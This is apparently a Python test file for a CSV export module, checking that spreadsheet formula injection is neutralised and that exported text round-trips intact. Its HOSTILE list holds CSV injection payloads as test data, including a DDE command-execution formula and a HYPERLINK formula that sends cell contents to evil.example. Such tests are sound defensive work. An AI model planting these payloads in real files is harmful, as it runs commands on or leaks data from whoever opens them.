"""Exports that are opened in a spreadsheet: complete, readable, and nothing in them runs."""

import csv
import io
import itertools
from datetime import date

import pytest
from hypothesis import given
from hypothesis import strategies as st

from wxbot.spreadsheet import Cell, as_csv, as_it_was, harmless

SIGNS = "=+-@＝＋－＠\t\r\n"
HOSTILE = [
    "=cmd|'/c calc'!A1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "\0=1+1",
    " =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u3000=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    '"=1+1"\r\n=2+2',
    'a","=1+1',
]


def read(*rows: list[Cell]) -> list[list[str]]:
    text = b"".join(as_csv(["heading"], rows)).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))[1:]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_becomes_text(text: str) -> None:
    [[cell, neighbour]] = read([text, "neighbour"])

    assert cell[0] not in SIGNS
    assert cell.removeprefix("'") == text.replace("\0", "")
    assert neighbour == "neighbour"


@given(st.lists(st.lists(st.text(), min_size=1, max_size=3), max_size=5))
def test_every_text_comes_back_and_none_begins_with_a_sign(rows: list[list[str]]) -> None:
    found = read(*rows)

    cells = [cell for row in found for cell in row]
    assert not [cell for cell in cells if cell[:1] and cell[0] in SIGNS]
    sent = [text.replace("\0", "") for row in rows for text in row]
    assert [cell.removeprefix("'") for cell in cells] == [text.removeprefix("'") for text in sent]


def test_a_file_begins_with_the_mark_and_ends_lines_as_the_standard_says() -> None:
    data = b"".join(as_csv(["渠道", "扫码"], [["门店, 东", 3]]))

    assert data == "\ufeff渠道,扫码\r\n".encode() + '"门店, 东",3\r\n'.encode()


def test_numbers_stay_numbers_also_below_zero() -> None:
    assert read([-3, 0.25, None, date(2026, 5, 1)]) == [["-3", "0.25", "", "2026-05-01"]]


def test_half_a_character_does_not_end_the_export() -> None:
    assert read(["a\ud800b"]) == [["a?b"]]


def test_an_export_is_handed_out_while_rows_still_come() -> None:
    pieces = as_csv(["number"], ([number] for number in itertools.count()))

    first = next(pieces)

    assert first.startswith("\ufeffnumber\r\n0\r\n".encode())
    assert len(first) < 100_000


@pytest.mark.parametrize("text", [*HOSTILE, "", "plain", "'quoted'", "it's", "-", "12"])
def test_what_was_made_harmless_can_be_read_again(text: str) -> None:
    assert as_it_was(harmless(text)) == text.replace("\0", "")
